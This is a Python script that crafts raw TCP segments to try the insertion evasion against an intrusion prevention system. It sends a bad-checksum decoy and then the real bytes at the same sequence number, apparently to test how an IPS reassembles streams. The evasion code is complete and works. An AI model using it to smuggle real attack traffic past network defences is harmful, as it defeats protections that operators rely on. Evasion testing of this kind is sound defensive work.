#!/usr/bin/env python3
"""insert_client.py SRC DST PORT: a TCP client that tries the insertion evasion.

From SRC (a raw socket: the kernel here must not answer the SYN-ACK with a
RST, the caller drops those) it opens a connection to DST:PORT, sends "GET ",
then "XXXX" with a wrong TCP checksum, then "EVIL" at the same sequence
number. The receiver drops the decoy and reads "GET EVIL"; an IPS that kept
the first copy of each byte sees "GET XXXX". Prints "sent" when done.
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def segment(src, dst, sport, dport, seq, ack, flags, data=b'', bad=False):
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                      5 << 4, flags, 65535, 0, 0)
    c = csum(src + dst + struct.pack('!BBH', 0, 6, len(tcp) + len(data)) + tcp + data)
    if bad:
        c ^= 0x5555
    tcp = tcp[:16] + struct.pack('!H', c) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp) + len(data), 1, 0, 64, 6, 0,
                     src, dst)
    return ip[:10] + struct.pack('!H', csum(ip)) + ip[12:] + tcp + data


def main():
    src, dst, dport = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2]), int(sys.argv[3])
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    inp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    inp.settimeout(3)
    sport, isn = random.randint(40000, 49999), random.randint(1, 1 << 30)

    def send(seq, ack, flags, data=b'', bad=False):
        out.sendto(segment(src, dst, sport, dport, seq, ack, flags, data, bad), (sys.argv[2], 0))
        time.sleep(0.1)

    send(isn, 0, 0x02)
    deadline = time.time() + 3
    while True:
        if time.time() > deadline:
            sys.exit('no SYN-ACK')
        d = inp.recv(4096)
        tcp = d[(d[0] & 15) * 4:]
        sp, dp, seq, _, _, flags = struct.unpack('!HHIIBB', tcp[:14])
        if sp == dport and dp == sport and flags & 0x12 == 0x12:
            break
    ack = seq + 1
    send(isn + 1, ack, 0x10)
    send(isn + 1, ack, 0x18, b'GET ')
    send(isn + 5, ack, 0x18, b'XXXX', bad=True)
    send(isn + 5, ack, 0x18, b'EVIL')
    time.sleep(0.5)
    send(isn + 9, ack, 0x11)
    print('sent')


main()
